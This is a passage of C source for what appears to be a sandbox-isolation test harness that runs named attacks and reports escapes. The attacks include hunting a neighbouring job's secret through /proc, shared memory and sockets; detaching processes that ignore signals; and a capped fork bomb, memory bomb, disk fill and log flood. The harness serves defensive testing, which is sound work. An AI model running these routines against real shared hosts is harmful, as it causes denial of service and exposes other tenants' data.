        note("renameat2(/workspace/sym3, /usr, EXCHANGE): %s", strerror(errno));
}

/* ---------------------------------------------------------------- another job */

/* plant SECRET SECONDS: leave SECRET where a neighbour might look, then wait. */
static int a_plant(int argc, char **argv) {
    const char *secret = argv[0];
    int secs = argc > 1 ? atoi(argv[1]) : 10;
    char p[256];
    const char *dirs[] = {"/workspace", "/tmp", "/dev/shm"};
    for (int i = 0; i < 3; i++) {
        snprintf(p, sizeof p, "%s/secret-%s", dirs[i], secret);
        int fd = open(p, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
        write(fd, secret, strlen(secret));
        close(fd);
        snprintf(p, sizeof p, "%s/secret", dirs[i]);
        fd = open(p, O_CREAT | O_WRONLY | O_CLOEXEC, 0666);
        write(fd, secret, strlen(secret));
        close(fd);
    }
    int id = shmget(0x4b494c4e, 4096, IPC_CREAT | 0666);
    if (id >= 0) {
        char *m = shmat(id, NULL, 0);
        if (m != (void *)-1) strcpy(m, secret);
    }
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path + 1, sizeof sa.sun_path - 1, "kiln-%s", secret);
    bind(s, (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(sa.sun_path + 1)));
    listen(s, 4);
    setenv("KILN_SECRET", secret, 1);
    printf("planted\n");
    fflush(stdout);
    sleep((unsigned)secs);
    return 0;
}

static int g_hits = 0;
static const char *g_secret;

static void grep_file(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOFOLLOW);
    if (fd < 0) return;
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && st.st_size < (1 << 20)) {
        static char buf[1 << 20];
        read_all(fd, buf, sizeof buf);
        if (strstr(buf, g_secret)) {
            escaped("found the other job's secret in %s", path);
            g_hits++;
        }
    }
    close(fd);
}

static void walk(const char *dir, int depth, int read_files) {
    if (depth > 12) return;
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        char p[4096];
        snprintf(p, sizeof p, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
        if (strstr(e->d_name, g_secret)) {
            escaped("found a name holding the other job's secret: %s", p);
            g_hits++;
        }
        if (e->d_type == DT_DIR) {
            if (!strcmp(p, "/proc") || !strcmp(p, "/sys")) continue;
            walk(p, depth + 1, read_files);
        } else if (read_files && e->d_type == DT_REG) {
            grep_file(p);
        }
    }
    closedir(d);
}

/* hunt SECRET [HOSTPATH...]: look for a concurrent job's secret everywhere. */
static void a_hunt(int argc, char **argv) {
    g_secret = argv[0];
    /* the whole visible tree: names everywhere, contents outside the image */
    walk("/workspace", 0, 1);
    walk("/tmp", 0, 1);
    walk("/dev", 0, 1);
    walk("/etc", 0, 1);
    walk("/usr", 0, 0);
    /* every process: roots, cwds, fds, environments, command lines */
    int pids[512];
    int np = list_pids(pids, 512);
    for (int i = 0; i < np; i++) {
        char p[128];
        const char *leaf[] = {"environ", "cmdline", "root/workspace/secret", "root/tmp/secret",
                              "cwd/secret", "root/dev/shm/secret"};
        for (int j = 0; j < 6; j++) {
            snprintf(p, sizeof p, "/proc/%d/%s", pids[i], leaf[j]);
            grep_file(p);
        }
        snprintf(p, sizeof p, "/proc/%d/root/workspace", pids[i]);
        walk(p, 0, 1);
    }
    /* ipc: the neighbour's SysV segment by key, and every segment by id */
    int id = shmget(0x4b494c4e, 0, 0);
    if (id >= 0) {
        char *m = shmat(id, NULL, SHM_RDONLY);
        if (m != (void *)-1 && strstr(m, g_secret)) escaped("read the other job's SysV shm");
        else note("a SysV segment with the key exists but holds no secret");
    }
    for (int sid = 0; sid < 64; sid++) {
        char *m = shmat(sid, NULL, SHM_RDONLY);
        if (m != (void *)-1) {
            if (strstr(m, g_secret)) escaped("read SysV shm id %d", sid);
            shmdt(m);
        }
    }
    /* abstract socket of the neighbour */
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    snprintf(sa.sun_path + 1, sizeof sa.sun_path - 1, "kiln-%s", g_secret);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(sa.sun_path + 1))) == 0)
        escaped("connected to the other job's abstract socket");
    grep_file("/proc/net/unix");
    grep_file("/proc/sysvipc/shm");
    /* host paths of the other job's workspace */
    for (int a = 1; a < argc; a++) {
        int n = path_variants(argv[a], g_variants, 1100);
        for (int i = 0; i < n; i++) {
            grep_file(g_variants[i]);
            DIR *d = opendir(g_variants[i]);
            if (d) {
                escaped("listed host directory %s", g_variants[i]);
                closedir(d);
            }
        }
    }
    note("hunt over: %d hits", g_hits);
}

/* sysv-ipc KEY: the host's SysV IPC objects are another IPC namespace's. */
static void a_sysv_ipc(int argc, char **argv) {
    key_t key = (key_t)strtol(argv[0], NULL, 0);
    int id = shmget(key, 0, 0);
    if (id >= 0) {
        escaped("host SysV shm key %#x visible (id %d)", key, id);
        char *m = shmat(id, NULL, 0);
        if (m != (void *)-1) escaped("attached host segment: %.40s", m);
    } else {
        note("shmget(%#x): %s", key, strerror(errno));
    }
    for (int sid = 0; sid < 256; sid++) {
        char *m = shmat(sid, NULL, SHM_RDONLY);
        if (m != (void *)-1) escaped("attached SysV shm id %d: %.40s", sid, m);
    }
    int fd = open("/proc/sysvipc/shm", O_RDONLY);
    if (fd >= 0) {
        char buf[8192];
        read_all(fd, buf, sizeof buf);
        close(fd);
        char k[32];
        snprintf(k, sizeof k, "%d", key);
        if (strstr(buf, k)) escaped("host segment listed in /proc/sysvipc/shm");
    }
}

/* ---------------------------------------------------------------- outliving the step */

static void a_daemonize(int argc, char **argv) {
    (void)argc, (void)argv;
    pid_t a = fork();
    if (a == 0) {
        setsid();
        pid_t b = fork();
        if (b == 0) {
            signal(SIGHUP, SIG_IGN);
            signal(SIGTERM, SIG_IGN);
            signal(SIGINT, SIG_IGN);
            prctl(PR_SET_PDEATHSIG, 0);
            prctl(PR_SET_NAME, "kiln-daemonized");
            int devnull = open("/dev/null", O_RDWR);
            dup2(devnull, 0);
            dup2(devnull, 1);
            dup2(devnull, 2);
            chdir("/");
            for (int i = 0; i < 120; i++) sleep(1);
            _exit(0);
        }
        _exit(0);
    }
    waitpid(a, NULL, 0);
    /* a second escapee: a child that becomes a subreaper's orphan */
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    if (fork() == 0) {
        if (fork() == 0) {
            signal(SIGTERM, SIG_IGN);
            close(1);
            close(2);
            for (int i = 0; i < 120; i++) sleep(1);
            _exit(0);
        }
        _exit(0);
    }
    usleep(100 * 1000);
    note("detached processes left behind; the step returns now");
}

/* sleep-forever: ignore every catchable signal, spawn stubborn children, never end. */
static void a_sleep_forever(int argc, char **argv) {
    (void)argc, (void)argv;
    for (int s = 1; s < 32; s++) signal(s, SIG_IGN);
    for (int i = 0; i < 3; i++) {
        if (fork() == 0) {
            if (i == 2) setsid();
            for (int s = 1; s < 32; s++) signal(s, SIG_IGN);
            for (;;) pause();
        }
    }
    printf("sleeping\n");
    fflush(stdout);
    for (;;) pause();
}

/* ---------------------------------------------------------------- exhaustion */

/* fork-bomb: every process forks forever. A shared counter stops the bomb at 4096
 * processes (so a missing limit cannot take the host down): reaching it is an escape. */
static void a_fork_bomb(int argc, char **argv) {
    (void)argc, (void)argv;
    volatile long *count = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    volatile long *refused = count + 1;
    *count = 1;
    pid_t top = getpid();
    printf("bombing\n");
    fflush(stdout);
    time_t start = time(NULL);
    for (;;) {
        if (__atomic_load_n(count, __ATOMIC_SEQ_CST) >= 4096) break;
        pid_t p = fork();
        if (p == 0) {
            __atomic_add_fetch(count, 1, __ATOMIC_SEQ_CST);
            continue; /* the child bombs too */
        }
        if (p < 0) {
            __atomic_add_fetch(refused, 1, __ATOMIC_SEQ_CST);
            usleep(1000);
        }
        if (getpid() == top && time(NULL) - start > 8) break;
    }
    if (getpid() != top) {
        for (;;) pause();
    }
    if (*count >= 4096) escaped("fork bomb reached %ld processes", *count);
    note("%ld processes at most, %ld forks refused", *count, *refused);
    finish();
    fflush(stdout);
    _exit(g_escaped ? EXIT_ESCAPED : 0);
}

/* memory-bomb: touch memory until stopped; 1 GiB touched is an escape. */
static void a_memory_bomb(int argc, char **argv) {
    (void)argc, (void)argv;
    size_t chunk = 16 << 20, total = 0;
    for (int i = 0; i < 64; i++) {
        char *m = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
        if (m == MAP_FAILED) {
            note("mmap refused after %zu MiB: %s", total >> 20, strerror(errno));
            return;
        }
        memset(m, 0xa5, chunk);
        total += chunk;
        if (i % 8 == 0) {
            printf("  %zu MiB\n", total >> 20);
            fflush(stdout);
        }
    }
    escaped("touched %zu MiB", total >> 20);
}

/* disk-fill DIR: write until refused; 1 GiB written is an escape. Also a sparse file. */
static void a_disk_fill(int argc, char **argv) {
    const char *dir = argc > 0 ? argv[0] : "/workspace";
    char p[256];
    snprintf(p, sizeof p, "%s/fill", dir);
    int fd = open(p, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
    static char buf[1 << 20];
    memset(buf, 0x5a, sizeof buf);
    size_t total = 0;
    signal(SIGXFSZ, SIG_IGN);
    for (;;) {
        ssize_t w = write(fd, buf, sizeof buf);
        if (w < 0) {
            note("write refused after %zu MiB: %s", total >> 20, strerror(errno));
            break;
        }
        if (w == 0) break;
        total += (size_t)w;
        if (total >= (1UL << 30)) {
            escaped("wrote %zu MiB to %s", total >> 20, dir);
            break;
        }
    }
    if (fsync(fd) != 0) note("fsync: %s", strerror(errno));
    close(fd);
    printf("  filled %zu MiB\n", total >> 20);
}

/* sparse: a huge file with no blocks, which a naive daemon would hash byte by byte. */
static void a_sparse(int argc, char **argv) {
    (void)argc, (void)argv;
    signal(SIGXFSZ, SIG_IGN);
    int fd = open("/workspace/sparse", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    /* as large as the limits let it be */
    for (long gib = 1024; gib >= 1; gib /= 2) {
        if (ftruncate(fd, gib << 30) == 0) {
            note("a %ld GiB sparse file exists", gib);
            break;
        }
        note("ftruncate %ld GiB: %s", gib, strerror(errno));
    }
    close(fd);
}

/* log-flood BYTES: write BYTES to stdout as fast as possible. */
static void a_log_flood(int argc, char **argv) {
    long long want = argc > 0 ? atoll(argv[0]) : (256LL << 20);
    static char buf[1 << 16];
    memset(buf, 'A', sizeof buf);
    for (size_t i = 63; i < sizeof buf; i += 64) buf[i] = '\n';
    long long done = 0;
    while (done < want) {
        ssize_t w = write(1, buf, sizeof buf);
        if (w <= 0) break;
        done += w;
        if ((done & ((1 << 22) - 1)) == 0) write(2, buf, 64);
    }
}

/* ---------------------------------------------------------------- main */

struct attack {
    const char *name;
    void (*fn)(int, char **);
};
static const struct attack ATTACKS[] = {
    {"read-host", a_read_host},     {"connect-unix", a_connect_unix},
    {"abstract-unix", a_abstract_unix}, {"tcp-connect", a_tcp_connect},
    {"egress-bypass", a_egress_bypass},
    {"sock-packet", a_sock_packet}, {"sock-raw", a_sock_raw},
    {"sock-netlink", a_sock_netlink}, {"sock-other", a_sock_other},
    {"sys", a_sys},                 {"ptrace-init", a_ptrace_init},
    {"ptrace-sibling", a_ptrace_sibling}, {"kill", a_kill},
    {"privs", a_privs},             {"setuid", a_setuid},
    {"devices", a_devices},         {"tiocsti", a_tiocsti},
    {"proc-sys", a_proc_sys},       {"sys-fs", a_sys_fs},
    {"fd-leak", a_fd_leak},         {"write-image", a_write_image},
    {"links", a_links},             {"hunt", a_hunt},
    {"sysv-ipc", a_sysv_ipc},       {"daemonize", a_daemonize},
    {"sleep-forever", a_sleep_forever}, {"fork-bomb", a_fork_bomb},
    {"memory-bomb", a_memory_bomb}, {"disk-fill", a_disk_fill},
    {"sparse", a_sparse},           {"log-flood", a_log_flood},
};

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: attack NAME [ARGS...]\n");
        return 2;
    }
    if (strcmp(argv[1], "euid") == 0) return a_euid();
    if (strcmp(argv[1], "plant") == 0) return argc > 2 ? a_plant(argc - 2, argv + 2) : 2;
    for (size_t i = 0; i < sizeof ATTACKS / sizeof *ATTACKS; i++) {
        if (strcmp(ATTACKS[i].name, argv[1]) == 0) {
            g_name = argv[1];
            if (strcmp(argv[1], "sys") == 0 && argc > 2) g_name = argv[2];
            printf("attack %s\n", g_name);
            ATTACKS[i].fn(argc - 2, argv + 2);
            return finish();
        }
    }
    fprintf(stderr, "unknown attack %s\n", argv[1]);
    return 2;
}
